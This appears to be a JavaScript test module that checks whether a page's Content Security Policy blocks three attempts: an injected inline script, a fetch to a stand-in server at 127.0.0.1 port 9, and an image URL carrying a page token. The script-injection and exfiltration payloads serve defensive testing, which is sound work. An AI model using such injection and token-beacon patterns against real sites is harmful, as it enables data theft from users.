/** How long a browser has to say that it refuses. */
const roomMs = 5_000;

/** Does something that the page's policy forbids, and tells which directive refused it; undefined where it was let through. */
function refusalOf(attempt) {
  return new Promise((resolve) => {
    const told = ({ effectiveDirective }) => end(effectiveDirective);
    const end = (directive) => {
      document.removeEventListener('securitypolicyviolation', told);
      clearTimeout(late);
      resolve(directive);
    };
    const late = setTimeout(end, roomMs);
    document.addEventListener('securitypolicyviolation', told);
    attempt(() => end());
  });
}

const browserAttack = (name, tries, from, directive, sent, attempt) => ({
  name: `browser: ${name}`,
  area: 'browser',
  tries,
  from,
  canRun: true,
  must: { refusedBy: 'browser', code: directive },
  async run() {
    const started = performance.now();
    const code = await refusalOf(attempt);
    const held = code === directive;
    return {
      held,
      broken: held ? [] : ['The browser let it through.'],
      sent: [{ to: 'browser', as: 'page', method: '', url: sent, headers: [], bytes: 0 }],
      answers: [{ status: 0, code, ms: Math.round(performance.now() - started) }],
    };
  },
});

/** What only a browser can be asked: these are tried by the page itself, on itself. */
export const browserAttacks = [
  browserAttack(
    'a script that came with a name',
    'to run a script that got into the page',
    ['CWE-79'],
    'script-src-elem',
    '<script>globalThis.stolen = true</script>',
    (letThrough) => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.stolen = true';
      document.head.append(script);
      script.remove();
      if (globalThis.stolen) letThrough();
    },
  ),
  browserAttack(
    'a token sent elsewhere',
    'to send what the page knows to another server',
    ['CWE-200'],
    'connect-src',
    'fetch(//127.0.0.1:9/)',
    (letThrough) => void fetch('//127.0.0.1:9/', { mode: 'no-cors' }).then(letThrough, () => {}),
  ),
  browserAttack(
    'a token in the address of a picture',
    'to tell another server what the page knows, without asking for an answer',
    ['CWE-200'],
    'img-src',
    '<img src="//127.0.0.1:9/?token=…">',
    (letThrough) => {
      const picture = new Image();
      picture.onload = letThrough;
      picture.src = '//127.0.0.1:9/?token=of-the-page';
    },
  ),
];
